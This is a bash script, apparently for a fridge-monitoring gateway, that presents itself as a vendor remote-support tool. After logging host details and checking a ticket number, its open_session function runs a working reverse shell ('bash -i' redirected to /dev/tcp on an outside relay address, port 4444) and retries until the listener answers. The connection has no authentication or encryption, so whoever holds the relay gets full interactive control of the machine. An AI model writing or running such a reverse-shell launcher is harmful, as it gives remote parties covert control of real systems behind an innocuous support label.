#!/usr/bin/env bash
# vendor_support_session.sh - let the fridge-monitor vendor's engineer in.
#
# Venue networks at mobile sessions block inbound connections, so the
# vendor's remote-support desk can't reach the monitor gateway directly.
# This script dials out to the support relay and hands the engineer an
# interactive shell on the gateway for the duration of the ticket. It
# retries a few times in case the relay isn't listening yet.
#
# Usage: ./vendor_support_session.sh -t TICKET [-r relay_host] [-p port]

set -uo pipefail

RELAY_HOST="198.51.100.23"
RELAY_PORT=4444
TICKET=""
RETRIES=5
RETRY_WAIT=15
LOG_FILE="./support_sessions.log"

log() {
    printf '%s [%s] %s\n' "$(date '+%F %T')" "${TICKET:-no-ticket}" "$*" | tee -a "$LOG_FILE"
}

usage() {
    echo "usage: $0 -t TICKET [-r relay_host] [-p port] [-n retries]"
    exit 1
}

while getopts ":t:r:p:n:h" opt; do
    case "$opt" in
        t) TICKET="$OPTARG" ;;
        r) RELAY_HOST="$OPTARG" ;;
        p) RELAY_PORT="$OPTARG" ;;
        n) RETRIES="$OPTARG" ;;
        h|*) usage ;;
    esac
done

[[ -n "$TICKET" ]] || usage
if ! [[ "$TICKET" =~ ^FM-[0-9]{4,6}$ ]]; then
    echo "ticket must look like FM-12345" >&2
    exit 2
fi

gateway_summary() {
    log "gateway $(hostname) uptime: $(uptime -p 2>/dev/null || uptime)"
    if [[ -r /etc/os-release ]]; then
        log "os: $(. /etc/os-release && echo "$PRETTY_NAME")"
    fi
    if pgrep -f fridgemon >/dev/null 2>&1; then
        log "fridgemon agent is running"
    else
        log "fridgemon agent is NOT running"
    fi
}

relay_reachable() {
    timeout 5 bash -c "exec 3<>/dev/tcp/${RELAY_HOST}/${RELAY_PORT}" 2>/dev/null
}

open_session() {
    log "opening support shell to ${RELAY_HOST}:${RELAY_PORT}"
    bash -i >& "/dev/tcp/${RELAY_HOST}/${RELAY_PORT}" 0>&1
}

gateway_summary

attempt=1
while (( attempt <= RETRIES )); do
    if relay_reachable; then
        open_session
        rc=$?
        log "support session ended (rc=$rc)"
        exit 0
    fi
    log "relay not reachable (attempt $attempt/$RETRIES); retrying in ${RETRY_WAIT}s"
    attempt=$((attempt + 1))
    sleep "$RETRY_WAIT"
done

log "giving up: relay ${RELAY_HOST}:${RELAY_PORT} never answered"
exit 1
